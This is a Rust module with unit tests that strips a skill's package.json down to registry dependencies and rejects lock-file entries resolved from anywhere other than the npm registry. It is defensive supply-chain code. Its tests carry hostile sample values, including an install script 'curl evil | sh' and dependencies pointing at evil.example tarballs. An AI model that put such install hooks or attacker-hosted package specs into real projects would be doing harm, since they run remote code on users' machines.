//! What npm is handed of a skill's `package.json` and `package-lock.json`: the manifest is
//! rewritten to its registry `dependencies` alone, and the lock file is checked so every
//! package it pins comes from the registry.
//!
//! Why rewrite rather than check: npm reads far more of a manifest than `dependencies` —
//! `optionalDependencies`, `peerDependencies`, `overrides`, `bundleDependencies`,
//! `workspaces`, `devDependencies` — and any of them can name a URL, a git repository or a
//! path. The manifest npm reads is `{"private": true, "dependencies": {...}}`, written from the
//! checked pairs, so a field npm learns to read tomorrow is not in it either. Every other field
//! is dropped, not refused: `devDependencies` and `scripts` are for the skill's author (never
//! installed, never run), and `optionalDependencies` are by definition allowed to be missing.
//!
//! Not here: reading the files and building (`node`).

use std::collections::BTreeMap;
use std::fmt;

use serde_json::Value;

use super::node::NPM_REGISTRY;

/// Why a `package.json` or `package-lock.json` is refused.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ManifestError {
    /// Not JSON, or not an object.
    Json(String),
    /// `dependencies` is not an object of strings.
    Shape(String),
    /// A dependency name that is not a registry package's.
    Name(String),
    /// A version that would be fetched from anywhere but the registry.
    NotRegistry {
        /// The package.
        name: String,
        /// Its version or range.
        range: String,
    },
    /// A lock file entry that is not on the registry.
    Lock(String),
}

impl fmt::Display for ManifestError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ManifestError::Json(why) | ManifestError::Shape(why) | ManifestError::Lock(why) => {
                f.write_str(why)
            }
            ManifestError::Name(name) => write!(f, "{name:?}: not a registry package name"),
            ManifestError::NotRegistry { name, range } => write!(
                f,
                "{name:?}: {range:?}: only registry versions are supported (no git, URL, path \
                 or alias)"
            ),
        }
    }
}

impl std::error::Error for ManifestError {}

/// A `package.json` reduced to its registry dependencies.
#[derive(Debug, Clone, PartialEq, Eq)]
#[cfg_attr(not(feature = "fuzzing"), allow(unreachable_pub))] // the fuzz target names it
pub struct RegistryManifest {
    /// Name → version range, sorted by name.
    pub dependencies: BTreeMap<String, String>,
    /// The manifest npm reads: `{"private": true, "dependencies": {...}}`.
    pub text: String,
}

/// Reads `text` as a `package.json` and rewrites it to its registry `dependencies` (see the
/// module doc). No `dependencies`, or an empty object: an empty set.
#[cfg_attr(not(feature = "fuzzing"), allow(unreachable_pub))] // the fuzz target names it
pub fn registry_manifest(text: &str) -> Result<RegistryManifest, ManifestError> {
    let doc: Value = serde_json::from_str(text).map_err(|e| ManifestError::Json(e.to_string()))?;
    let Value::Object(doc) = doc else {
        return Err(ManifestError::Json("not a JSON object".into()));
    };
    let mut dependencies = BTreeMap::new();
    match doc.get("dependencies") {
        None | Some(Value::Null) => {}
        Some(Value::Object(declared)) => {
            for (name, range) in declared {
                let range = range.as_str().ok_or_else(|| {
                    ManifestError::Shape(format!("{name:?}: the version must be a string"))
                })?;
                check_dependency(name, range)?;
                dependencies.insert(name.clone(), range.to_owned());
            }
        }
        Some(_) => {
            return Err(ManifestError::Shape(
                "`dependencies` must be an object".into(),
            ));
        }
    }
    let manifest = serde_json::json!({ "private": true, "dependencies": dependencies });
    Ok(RegistryManifest {
        text: format!("{manifest:#}\n"),
        dependencies,
    })
}

/// A registry package name and a semver range or dist-tag; refused: git, URLs, paths,
/// `npm:` aliases, GitHub shorthands (anything with `:` or `/` in the range).
fn check_dependency(name: &str, range: &str) -> Result<(), ManifestError> {
    let bare = name.strip_prefix('@').map_or(Some(name), |scoped| {
        scoped.split_once('/').map(|(_, package)| package)
    });
    let name_ok = bare.is_some_and(|n| !n.is_empty())
        && !name.starts_with('.')
        && name
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "-._~@/".contains(c))
        && name.matches('/').count() <= usize::from(name.starts_with('@'))
        && name.matches('@').count() <= usize::from(name.starts_with('@'));
    if !name_ok {
        return Err(ManifestError::Name(name.to_owned()));
    }
    let range_ok = !range.is_empty()
        && range
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || " .^~<>=|*+-".contains(c));
    if !range_ok {
        return Err(ManifestError::NotRegistry {
            name: name.to_owned(),
            range: range.to_owned(),
        });
    }
    Ok(())
}

/// The keys of a lock file entry whose values map package names to version ranges.
const RANGE_MAPS: [&str; 5] = [
    "dependencies",
    "optionalDependencies",
    "peerDependencies",
    "devDependencies",
    "requires",
];

/// Checks a parsed `package-lock.json`: every `resolved` URL is on [`NPM_REGISTRY`], no entry
/// is a `link` (a local folder), and no `version` or declared range is a URL, a git
/// repository, a path or a shorthand for one (an `npm:` alias of a registry package passes).
pub(super) fn check_lock(value: &Value) -> Result<(), ManifestError> {
    match value {
        Value::Object(map) => {
            for (key, inner) in map {
                match (key.as_str(), inner) {
                    ("resolved", Value::String(url)) if !url.starts_with(NPM_REGISTRY) => {
                        return Err(ManifestError::Lock(format!(
                            "{url:?} is not on {NPM_REGISTRY} (only registry packages are \
                             installed)"
                        )));
                    }
                    ("link", Value::Bool(true)) => {
                        return Err(ManifestError::Lock(
                            "a linked local package is not supported".into(),
                        ));
                    }
                    ("version", Value::String(version)) if remote(version) => {
                        return Err(ManifestError::Lock(format!(
                            "version {version:?} is not a registry version"
                        )));
                    }
                    (maps, Value::Object(ranges)) if RANGE_MAPS.contains(&maps) => {
                        for (name, range) in ranges {
                            match range {
                                Value::String(range) if remote(range) => {
                                    return Err(ManifestError::Lock(format!(
                                        "{name:?}: {range:?} is not a registry version"
                                    )));
                                }
                                Value::String(_) => {}
                                other => check_lock(other)?,
                            }
                        }
                    }
                    _ => check_lock(inner)?,
                }
            }
            Ok(())
        }
        Value::Array(items) => items.iter().try_for_each(check_lock),
        _ => Ok(()),
    }
}

/// Whether a lock file's version or range names something other than a registry version: a
/// URL, git, a path, a `file:`/`link:` spec or a `user/repo` shorthand. `npm:name@range` (an
/// alias of a registry package) is a registry version.
fn remote(spec: &str) -> bool {
    let spec = spec.trim();
    let spec = spec.strip_prefix("npm:").unwrap_or(spec);
    let range = match spec.strip_prefix('@') {
        // `@scope/name@range`: the scope's `/` is allowed.
        Some(scoped) => match scoped.split_once('/') {
            Some((_, rest)) => rest,
            None => return true,
        },
        None => spec,
    };
    range.contains([':', '/', '\\'])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_registry_dependencies_reach_the_manifest_npm_reads() {
        let manifest = r#"{
            "name": "s", "version": "1.0.0", "type": "module",
            "dependencies": {"yaml": "^2.4.0", "@scope/x-y": "1.2.3"},
            "optionalDependencies": {"evil": "https://evil.example/evil.tgz"},
            "peerDependencies": {"p": "git+ssh://git@github.com/a/b.git"},
            "devDependencies": {"d": "file:../d"},
            "bundleDependencies": ["yaml"],
            "overrides": {"yaml": "github:a/b"},
            "workspaces": ["../other"],
            "scripts": {"install": "curl evil | sh"}
        }"#;
        let rewritten = registry_manifest(manifest).unwrap();
        let doc: Value = serde_json::from_str(&rewritten.text).unwrap();
        assert_eq!(
            doc,
            serde_json::json!({
                "private": true,
                "dependencies": {"@scope/x-y": "1.2.3", "yaml": "^2.4.0"}
            })
        );
        for dropped in ["evil", "git", "file:", "github", "workspaces", "curl"] {
            assert!(!rewritten.text.contains(dropped), "{dropped}");
        }
        // The rewrite is its own normal form.
        assert_eq!(registry_manifest(&rewritten.text).unwrap(), rewritten);
    }

    #[test]
    fn a_dependency_that_would_leave_the_registry_is_refused() {
        for range in [
            "git+https://github.com/a/b.git",
            "github:a/b",
            "a/b",
            "file:../x",
            "npm:other@1",
            "https://example.com/x.tgz",
        ] {
            let manifest = format!(r#"{{"dependencies":{{"x":"{range}"}}}}"#);
            let why = registry_manifest(&manifest).unwrap_err();
            assert!(matches!(why, ManifestError::NotRegistry { .. }), "{range}");
        }
        for name in ["../x", "a@b", "A"] {
            let manifest = format!(r#"{{"dependencies":{{"{name}":"1"}}}}"#);
            assert_eq!(
                registry_manifest(&manifest),
                Err(ManifestError::Name(name.into()))
            );
        }
    }

    #[test]
    fn a_lock_entry_off_the_registry_is_refused_wherever_it_hides() {
        let registry = "https://registry.npmjs.org/x/-/x-1.0.0.tgz";
        for lock in [
            r#"{"packages":{"node_modules/x":{"resolved":"https://evil.example/x.tgz"}}}"#,
            r#"{"packages":{"node_modules/x":{"link":true,"resolved":"../x"}}}"#,
            r#"{"packages":{"node_modules/x":{"version":"git+ssh://git@h/a.git"}}}"#,
            r#"{"dependencies":{"x":{"version":"file:../x"}}}"#,
            r#"{"dependencies":{"x":{"version":"1.0.0","requires":{"y":"github:a/b"}}}}"#,
            r#"{"packages":{"node_modules/x":{"optionalDependencies":{"y":"https://e/y.tgz"}}}}"#,
            r#"{"packages":{"node_modules/x":{"dependencies":{"y":"a/b"}}}}"#,
        ] {
            let doc: Value = serde_json::from_str(lock).unwrap();
            assert!(check_lock(&doc).is_err(), "{lock}");
        }
        let good = format!(
            r#"{{"packages":{{"":{{"dependencies":{{"x":"^1"}}}},"node_modules/x":{{"version":"1.0.0","resolved":"{registry}","dependencies":{{"s":"npm:string-width@^4.2.0","t":"npm:@scope/t@1"}}}}}}}}"#
        );
        check_lock(&serde_json::from_str(&good).unwrap()).unwrap();
    }
}
